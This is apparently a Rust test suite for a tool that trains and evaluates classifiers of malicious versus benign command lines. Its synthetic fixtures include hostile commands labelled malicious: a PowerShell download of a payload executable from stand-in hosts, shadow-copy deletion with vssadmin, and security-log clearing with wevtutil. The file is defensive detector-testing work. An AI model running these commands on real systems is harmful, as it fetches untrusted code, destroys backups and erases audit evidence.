//! The lift as its users see it: classifiers with and without the benign set, baselines, a budget of labels, the experiment.

use serde_json::Value;

use crate::processes::{Cluster, Setup};
use crate::support::{Dir, digest, fails, number, query, run, succeeds};

/// Lines of a made training set: easy benign ones, attacks, and hard benign ones that look like attacks.
fn easy(n: usize) -> String {
    format!("git commit -m change{n} --path src/module{}", n % 17)
}

fn attack(n: usize) -> String {
    format!(
        "powershell.exe -NoProfile -Command Invoke-WebRequest http://host{n}.example/payload -OutFile C:\\Temp\\p{n}.exe"
    )
}

fn hard(n: usize) -> String {
    format!(
        "powershell.exe -NoProfile -Command Get-Service -Name agent{n} | Restart-Service -Force; Write-Log C:\\Logs\\run{n}.txt"
    )
}

fn csv(rows: impl IntoIterator<Item = (String, &'static str)>) -> String {
    let lines = rows
        .into_iter()
        .map(|(line, label)| format!("\"{}\",{label}\n", line.replace('"', "\"\"")));
    format!("command_line,label\n{}", lines.collect::<String>())
}

fn letters(n: usize) -> String {
    let letter = |n: usize| char::from(b'a' + u8::try_from(n % 26).unwrap());
    [letter(n), letter(n / 26), letter(n / 7 + 3)]
        .iter()
        .collect()
}

pub struct Sets {
    pub baseline: String,
    pub benign: String,
    pub test: String,
}

/// Lines differ in letters, so that no two sets share a template.
pub fn sets(dir: &Dir) -> Sets {
    let named = |line: String, n: usize, place: &str| format!("{line} {place}{}", letters(n));
    let baseline = (0..300)
        .map(|n| (named(easy(n), n, "base"), "benign"))
        .chain((0..100).map(|n| (named(attack(n), n, "base"), "malicious")));
    let benign = (0..80).map(|n| (named(hard(n), n, "more"), "benign"));
    let test = (0..150)
        .map(|n| (named(hard(n), n, "test"), "benign"))
        .chain((0..60).map(|n| (named(attack(n), n, "test"), "malicious")));
    Sets {
        baseline: dir.write("baseline.csv", csv(baseline)),
        benign: dir.write("benign.csv", csv(benign)),
        test: dir.write("test.csv", csv(test)),
    }
}

pub fn objects(text: &str) -> Vec<Value> {
    let lines = text.lines();
    lines
        .map(|line| serde_json::from_str(line).unwrap())
        .collect()
}

#[test]
fn hard_benign_lines_lift_a_classifier_that_knew_easy_ones_alone() {
    let dir = Dir::new();
    let sets = sets(&dir);
    let test = format!("incidents={}", sets.test);
    let args = [
        "evaluate",
        "lift",
        "--baseline",
        &sets.baseline,
        "--benign",
        &sets.benign,
        "--test",
        &test,
        "--bootstrap",
        "200",
        "--json",
    ];
    let said = succeeds(&args);
    let rows = objects(&said);
    // Two families; the baseline, all that is added, and the baseline's size.
    assert_eq!(rows.len(), 6);
    for family in ["boosting", "linear"] {
        let of = |train: &str, scale: &str| {
            let row = rows.iter().find(|row| {
                row["family"] == family && row["train"] == train && row["scale"] == scale
            });
            row.unwrap().clone()
        };
        let (baseline, full) = (of("baseline", "full"), of("baseline+benign", "full"));
        assert_eq!(baseline["test"], "incidents");
        assert_eq!(baseline["rows_benign"], 300);
        assert_eq!(baseline["rows_malicious"], 100);
        assert_eq!(baseline["rows_added"], 0);
        assert_eq!(baseline["auc_gain"], Value::Null);
        assert!(full["rows_added"].as_u64().unwrap() > 0);
        let number = |row: &Value, key: &str| row[key].as_f64().unwrap();
        assert!(number(&full, "auc") > 0.97, "{full}");
        assert!(number(&full, "auc_low") <= number(&full, "auc"));
        assert!(number(&full, "auc") <= number(&full, "auc_high"));
        // The easy baseline takes hard benign lines for attacks; with their like it does not.
        assert!(
            number(&full, "false_alarms_a_day") < number(&baseline, "false_alarms_a_day") / 2.0
        );
        assert!(number(&full, "brier") < number(&baseline, "brier"));
        // 150 benign rows resolve a false-positive rate of 1e-2, and none below.
        assert!(full["tpr_at_fpr"]["1e-2"].as_f64().is_some());
        for fpr in ["1e-3", "1e-4", "1e-5"] {
            assert_eq!(full["tpr_at_fpr"][fpr], Value::Null, "{fpr}");
        }
        let reduced = of("baseline+benign", "reduced");
        let rows = |row: &Value| number(row, "rows_benign") + number(row, "rows_malicious");
        assert!((rows(&reduced) - rows(&baseline)).abs() < 1e-9, "{reduced}");
    }
    // One seed gives one answer; another draws otherwise.
    assert_eq!(said, succeeds(&args));
    assert_ne!(said, succeeds(&[&args[..], &["--seed", "2"]].concat()));
    let table = succeeds(&args[..args.len() - 1]);
    assert!(
        table.contains("lift, points") && table.contains("incidents"),
        "{table}"
    );
}

#[test]
fn what_a_test_knows_is_counted_and_not_trained_on() {
    let dir = Dir::new();
    // Beside what leaks, lines of programs that only one of the two sets runs.
    let rows = |of: &str, marks: [&str; 3]| {
        let known = [
            (marks[0].to_owned(), "benign"),
            (marks[1].to_owned(), "malicious"),
            (marks[2].to_owned(), "benign"),
        ];
        let rest = (0..20).flat_map(|n| {
            let place = letters(n);
            [
                (format!("{of}docker run image{place}"), "benign"),
                (format!("{of}rundll lib{place},Start"), "malicious"),
            ]
        });
        csv(known.into_iter().chain(rest))
    };
    let test = [
        "net user bob /add",
        "ping -n 4 10.0.0.7",
        "type C:\\data\\application\\a.txt",
    ];
    let baseline = [
        "net user bob /add ",
        "ping -n 9 10.0.0.8",
        "type C:\\data\\applications\\a.txt",
    ];
    let test = dir.write("test.csv", rows("other", test));
    let baseline = dir.write("baseline.csv", rows("", baseline));
    let added = dir.write(
        "added.csv",
        csv([("net user bob /add".to_owned(), "benign")]),
    );
    let said = succeeds(&[
        "evaluate",
        "lift",
        "--baseline",
        &baseline,
        "--benign",
        &added,
        "--test",
        &format!("t={test}"),
        "--families",
        "linear",
        "--scale",
        "full",
        "--bootstrap",
        "10",
        "--json",
    ]);
    let full = &objects(&said)[1];
    assert_eq!(
        full["leaked_exact"], 2,
        "one of the baseline, one added: {full}"
    );
    assert_eq!(full["leaked_template"], 1);
    assert_eq!(full["leaked_near"], 1);
    assert_eq!(full["rows_added"], 0);
    assert_eq!(
        full["rows_benign"].as_u64().unwrap() + full["rows_malicious"].as_u64().unwrap(),
        40
    );
}

#[test]
fn bad_sets_are_refused_by_name_and_without_their_lines() {
    let dir = Dir::new();
    let sets = sets(&dir);
    let test = format!("t={}", sets.test);
    let refused = |more: &[&str]| fails(&[&["evaluate", "lift"], more].concat());
    let label = dir.write("label.csv", "command_line,label\nsecret one,maybe\n");
    let said = refused(&["--baseline", &label, "--test", &test]);
    assert!(
        said.contains("row 1") && said.contains("label") && !said.contains("secret"),
        "{said}"
    );
    let column = dir.write("column.csv", "command_line\nsecret one\n");
    let said = refused(&["--baseline", &column, "--test", &test]);
    assert!(said.contains("no column label"), "{said}");
    let weight = dir.write("weight.csv", "command_line,label,weight\nsecret,0,-1\n");
    let said = refused(&["--baseline", &weight, "--test", &test]);
    assert!(
        said.contains("weight") && !said.contains("secret"),
        "{said}"
    );
    let one = dir.write("one.csv", csv([("ls".to_owned(), "benign")]));
    let said = refused(&["--baseline", &one, "--test", &test]);
    assert!(said.contains("1 benign and 0 malicious"), "{said}");
    let said = refused(&["--baseline", &sets.baseline, "--test", &format!("t={one}")]);
    assert!(
        said.contains("--test t") && said.contains("0 malicious"),
        "{said}"
    );
    let said = refused(&["--baseline", &sets.baseline, "--test", "nothing"]);
    assert!(said.contains("NAME=FILE"), "{said}");
    let said = refused(&[
        "--baseline",
        &sets.baseline,
        "--test",
        &test,
        "--test",
        &test,
    ]);
    assert!(said.contains("two tests"), "{said}");
    let said = refused(&["--baseline-sql", "SELECT 1 AS label", "--test", &test]);
    assert!(said.contains("no column command_line"), "{said}");
}

#[test]
fn baselines_by_rules_and_by_vote_are_training_sets() {
    let dir = Dir::new();
    let lines = "command_line\nvssadmin delete shadows /all /quiet\nwevtutil cl Security\ngit status\ndocker ps -a\n";
    let out = dir.join("rules.parquet");
    let file = dir.write("lines.csv", lines);
    let said = succeeds(&["baseline", "regex", &file, "--out", &out, "--json"]);
    let said: Value = serde_json::from_str(&said).unwrap();
    assert_eq!(
        (&said["rows_malicious"], &said["rows_benign"]),
        (&2.into(), &2.into())
    );
    let label = |out: &str| {
        let sql = format!("SELECT command_line, label, weight FROM '{out}' ORDER BY command_line");
        objects(&succeeds(&["sql", "--json", &sql]))
    };
    assert_eq!(label(&out)[0]["command_line"], "docker ps -a");
    assert_eq!(label(&out)[0]["label"], "benign");

    // Two voices of 0.4 against one of 1; a tie has no label.
    let a = dir.write(
        "a.csv",
        "command_line,label\nx one,malicious\ny two,benign\nz,0\n",
    );
    let b = dir.write("b.csv", "command_line,label\nx one,benign\nz,1\ntied,1\n");
    let c = dir.write("c.csv", "command_line,label\nx one,benign\ntied,0\n");
    let sources = [format!("{a}=1"), format!("{b}=0.4"), format!("{c}=0.4")];
    let voted = dir.join("voted.parquet");
    succeeds(&[
        "baseline",
        "aggregate",
        "--source",
        &sources[0],
        "--source",
        &sources[1],
        "--source",
        &sources[2],
        "--out",
        &voted,
    ]);
    let rows = label(&voted);
    assert_eq!(rows.len(), 3);
    assert_eq!(rows[0]["label"], "malicious");
    assert!(
        (rows[0]["weight"].as_f64().unwrap() - 0.2).abs() < 1e-6,
        "{rows:?}"
    );
    assert_eq!(rows[2]["label"], "benign");
    let said = fails(&["baseline", "aggregate", "--source", &a, "--out", &voted]);
    assert!(said.contains("FILE=WEIGHT"), "{said}");

    // Either is a baseline, also by SQL.
    let sets = sets(&dir);
    let by_rules = dir.join("baseline.parquet");
    succeeds(&[
        "baseline",
        "regex",
        &sets.baseline,
        &file,
        "--out",
        &by_rules,
    ]);
    let sql = format!("SELECT * FROM '{by_rules}'");
    let test = format!("t={}", sets.test);
    let rows = objects(&succeeds(&[
        "evaluate",
        "lift",
        "--baseline-sql",
        &sql,
        "--test",
        &test,
        "--families",
        "linear",
        "--bootstrap",
        "10",
        "--json",
    ]));
    assert_eq!(rows.len(), 1);
    assert!(rows[0]["auc"].as_f64().is_some());
}

#[test]
fn a_label_budget_is_spent_by_detectors_and_chance_and_can_be_weighted_back() {
    let dir = Dir::new();
    let events = dir.synth("events", &["--lines", "4000"]);
    let (all, few) = (dir.join("all"), dir.join("few"));
    run(
        &events,
        &all,
        &["--quota", "10%", "--min-hosts", "0", "--min-users", "0"],
    );
    let whole = number(&all, "SELECT count(*) FROM candidates WHERE kept");
    assert!(whole > 100, "{whole}");
    assert_eq!(
        number(
            &all,
            "SELECT count(*) FROM candidates WHERE kept AND inclusion_probability = 1"
        ),
        whole
    );
    // A warehouse's benign set is what is added.
    let sets = sets(&dir);
    let test = format!("t={}", sets.test);
    let lift = succeeds(&[
        "evaluate",
        "lift",
        "--baseline",
        &sets.baseline,
        "--benign",
        &all,
        "--test",
        &test,
        "--families",
        "linear",
        "--scale",
        "full",
        "--bootstrap",
        "10",
        "--json",
    ]);
    let benign = number(&all, "SELECT count(*) FROM benign");
    assert!(benign > 0);
    assert_eq!(objects(&lift)[1]["rows_added"], benign);
    let budget = [
        "--quota",
        "10%",
        "--label-budget",
        "60",
        "--random-share",
        "0.2",
    ];
    run(&events, &few, &budget);
    let counts = query(
        &few,
        "SELECT chosen_by, count(*) AS n FROM candidates WHERE kept GROUP BY 1 ORDER BY 1",
    );
    let by = |n: usize| {
        (
            counts[n]["chosen_by"].as_str().unwrap(),
            counts[n]["n"].as_i64().unwrap(),
        )
    };
    assert_eq!([by(0), by(1)], [("random", 12), ("unguided", 48)]);
    assert_eq!(number(&few, "SELECT count(*) FROM labels"), 60);
    // What the budget leaves is told as such, and the chosen lines stand for all of it.
    let beyond = number(
        &few,
        "SELECT count(*) FROM candidates WHERE covered_how = 'budget' AND NOT kept",
    );
    assert_eq!(beyond, whole - 60);
    let stands_for =
        "SELECT CAST(round(sum(1 / inclusion_probability)) AS BIGINT) FROM candidates WHERE kept";
    assert_eq!(number(&few, stands_for), whole);
    let said = run(&events, &few, &budget);
    assert!(said.contains("up to date"), "{said}");

    // A line that was left out covers nothing: with the whole budget the day is what it is without one.
    run(
        &events,
        &few,
        &["--quota", "10%", "--label-budget", "100000"],
    );
    assert_eq!(
        number(&few, "SELECT count(*) FROM candidates WHERE kept"),
        whole
    );
    let said = fails(&[
        "run",
        "--date",
        "2025-01-01",
        "--telemetry",
        &events,
        "--warehouse",
        &few,
        "--label-budget",
        "5",
        "--random-share",
        "2",
    ]);
    assert!(said.contains("--random-share"), "{said}");
}

#[test]
fn a_guided_budget_goes_to_what_the_guide_suspects_here_and_on_a_cluster() {
    let dir = Dir::new();
    let events = dir.synth("events", &["--lines", "3000"]);
    let sets = sets(&dir);
    let guide = dir.join("guide.model");
    succeeds(&[
        "evaluate",
        "lift",
        "--baseline",
        &sets.baseline,
        "--test",
        &format!("t={}", sets.test),
        "--families",
        "linear",
        "--bootstrap",
        "10",
        "--save",
        &guide,
    ]);
    let (here, there) = (dir.join("here"), dir.join("there"));
    let flags = ["--quota", "10%", "--label-budget", "40", "--guide", &guide];
    run(&events, &here, &flags);
    let counts = query(
        &here,
        "SELECT chosen_by, count(*) AS n FROM candidates WHERE kept GROUP BY 1 ORDER BY 1",
    );
    let counts: Vec<i64> = counts
        .iter()
        .map(|row| row["n"].as_i64().unwrap())
        .collect();
    assert_eq!(counts, [32, 4, 4], "guided, random, unguided");
    let cluster = Cluster::start(&dir, Setup::default());
    run(
        &events,
        &there,
        &[&flags[..], &["--cluster", &cluster.url]].concat(),
    );
    assert_eq!(digest(&there, "2025-01-01"), digest(&here, "2025-01-01"));

    // A column of scores guides too: what has the highest score is chosen first.
    let scored = dir.join("scores.parquet");
    let sql = format!(
        "COPY (SELECT command_line, octet_length(command_line) AS score FROM '{events}/day=2025-01-01/part-00000.parquet') TO \
         '{scored}' STORED AS PARQUET"
    );
    succeeds(&["sql", &sql]);
    let by_score = dir.join("by_score");
    let flags = [
        "--quota",
        "10%",
        "--label-budget",
        "20",
        "--spread",
        "none",
        "--guide-scores",
        &scored,
        "--random-share",
        "0",
        "--unguided-share",
        "0",
    ];
    run(&events, &by_score, &flags);
    let least = "SELECT count(*) FROM candidates WHERE covered_how = 'budget' AND suspicion > \
                 (SELECT min(suspicion) FROM candidates WHERE kept)";
    assert_eq!(number(&by_score, least), 0);
    assert_eq!(
        number(
            &by_score,
            "SELECT count(*) FROM candidates WHERE kept AND chosen_by = 'guided'"
        ),
        20
    );

    let refused = |flag: &str, file: &str| {
        fails(&[
            "run",
            "--date",
            "2025-01-01",
            "--telemetry",
            &events,
            "--warehouse",
            &here,
            "--label-budget",
            "5",
            flag,
            file,
        ])
    };
    let said = refused("--guide", &sets.test);
    assert!(said.contains("evaluate lift --save"), "{said}");
    let said = refused("--guide-scores", &sets.test);
    assert!(said.contains("no column score"), "{said}");
}
